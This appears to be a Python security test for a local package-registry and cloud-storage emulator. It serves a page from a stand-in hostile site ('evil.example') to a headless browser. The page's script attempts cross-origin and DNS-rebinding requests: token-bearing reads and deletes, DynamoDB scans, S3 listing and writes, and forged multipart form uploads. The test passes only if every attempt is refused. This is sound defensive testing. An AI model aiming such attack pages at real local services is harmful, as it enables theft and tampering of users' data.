"""Lets pages of a real browser try a local server: its API with the documented token, its table and its bucket.

Usage: browser.py BROWSER SERVER. The pages come from another origin; they ask by the server's own addresses, and by the
name of their own site, which leads to the server. Nothing may be read and nothing changed. Then once more by that name
in a browser that takes every origin for one, as it does where a name is rebound: nothing but 421 may come back.
"""

import http.server
import json
import pathlib
import subprocess
import sys
import tempfile
import threading
import urllib.parse
import urllib.request

BROWSER, SERVER = sys.argv[1:]
SITE = "evil.example"
# How each request ends is noted in the page's own words, and told to the page's own server.
PAGE = """<!doctype html><title>a page of another site</title><iframe name=nowhere></iframe><script>
const tries = %s;
const form = ({url, fields}) => new Promise(done => {
  const form = Object.assign(document.createElement("form"), {method: "POST", action: url, enctype: "multipart/form-data", target: "nowhere"});
  for (const [name, text, filename] of fields) {
    const input = Object.assign(document.createElement("input"), {type: filename ? "file" : "hidden", name});
    if (filename) {
      const files = new DataTransfer();
      files.items.add(new File([text], filename));
      input.files = files.files;
    } else input.value = text;
    form.append(input);
  }
  document.body.append(form);
  document.querySelector("iframe").onload = () => done("sent");
  setTimeout(() => done("sent"), 1000);
  form.submit();
});
const ask = async ({url, options}) => {
  try {
    const answer = await fetch(url, options);
    return [answer.type, answer.status, (await answer.text()).slice(0, 2000)];
  } catch (error) { return ["refused", 0, String(error)]; }
};
(async () => {
  const told = [];
  for (const one of tries) told.push(one.fields ? await form(one) : await ask(one));
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


def start(folder):
    arguments = [SERVER, "--json", "--port", "0", "--data-dir", folder]
    process = subprocess.Popen(arguments, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    return process, json.loads(process.stdout.readline())


def publish(told, path):
    body = b'--b\r\nContent-Disposition: form-data; name="file"; filename="secret-1.0.0.txt"\r\n\r\nsecret\r\n--b--\r\n'
    headers = {"Authorization": f"Bearer {told['token']}", "Content-Type": "multipart/form-data; boundary=b"}
    with urllib.request.urlopen(urllib.request.Request(told["base_url"] + path, body, headers)) as answer:
        return json.load(answer)["id"]


def names(told, path):
    request = urllib.request.Request(told["base_url"] + path, headers={"Authorization": f"Bearer {told['token']}"})
    with urllib.request.urlopen(request) as answer:
        return sorted(item["name"] for item in json.load(answer)["items"])


def tries(told, path, package, hosts):
    """Everything that a page can try, at each of these names."""
    bearer = {"Authorization": f"Bearer {told['token']}"}
    scan = {"X-Amz-Target": "DynamoDB_20120810.Scan", "Content-Type": "application/x-amz-json-1.0"}
    items = json.dumps({"TableName": told["table"]})
    for host in hosts:
        at = {
            service: told[service].replace("127.0.0.1", host)
            for service in ("base_url", "s3_endpoint", "dynamodb_endpoint")
        }
        api, bucket, table = at["base_url"] + path, f"{at['s3_endpoint']}/{told['bucket']}", at["dynamodb_endpoint"]
        yield {"url": api, "options": {"headers": bearer}}
        yield {"url": f"{api}/{package}", "options": {"method": "DELETE", "headers": bearer}}
        yield {"url": f"{at['base_url']}/", "options": {}}
        yield {"url": table + "/", "options": {"method": "POST", "headers": scan, "body": items}}
        yield {"url": table + "/", "options": {"method": "POST", "body": items}}
        yield {"url": table + "/", "options": {}}
        yield {"url": f"{bucket}?list-type=2", "options": {}}
        yield {"url": f"{bucket}/packages/new", "options": {"method": "PUT", "body": "new"}}
        # A form goes everywhere; with the token in its address it carries `Authorization: Basic`.
        own = api.replace("http://", f"http://token:{told['token']}@")
        for url in (api, own):
            yield {"url": url, "fields": [["file", "evil", "evil-1.0.0.txt"]]}
        yield {"url": bucket, "fields": [["key", "packages/new"], ["file", "evil", "evil"]]}


class Site(http.server.BaseHTTPRequestHandler):
    page, told, done = "", [], threading.Event()

    def do_GET(self):
        body = Site.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        Site.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        Site.done.set()

    def log_message(self, *_):
        pass


def browse(asked, port, *flags):
    """Lets a page try all of this, and returns how each ended."""
    Site.page = PAGE % json.dumps(asked)
    Site.done.clear()
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        show(f"http://{SITE}:{port}/", f"--user-data-dir={profile}", *flags)
    return [(one, outcome) for one, outcome in zip(asked, Site.told, strict=True) if "fields" not in one]


def show(url, *flags):
    arguments = [
        BROWSER,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--host-resolver-rules=MAP {SITE} 127.0.0.1",
        "--remote-debugging-port=0",
        *flags,
        url,
    ]
    browser = subprocess.Popen(arguments, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert Site.done.wait(120), "the page told nothing"
    finally:
        browser.kill()
        browser.wait()


def main():
    with tempfile.TemporaryDirectory() as data:
        server, told = start(data)
        site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
        threading.Thread(target=site.serve_forever, daemon=True).start()
        try:
            files = told["registries"]["files"]
            path = f"/v2/packages/organizations/{told['organization']}/registries/{files}/packages"
            package = publish(told, path)
            foreign = browse(list(tries(told, path, package, ["127.0.0.1", "localhost", SITE])), site.server_port)
            rebound = browse(list(tries(told, path, package, [SITE])), site.server_port, "--disable-web-security")
            left = names(told, path)
        finally:
            server.kill()
            server.wait()
    wrong = [(one, outcome) for one, outcome in foreign if outcome[0] != "refused"]
    wrong += [(one, outcome) for one, outcome in rebound if outcome[1] != 421]
    if left != ["secret"]:
        wrong.append(f"the registry holds {left}")
    print(f"{len(foreign) + len(rebound)} answers wanted, {len(wrong)} of them given", *wrong, sep="\n")
    sys.exit(bool(wrong) or not foreign or not rebound)


main()
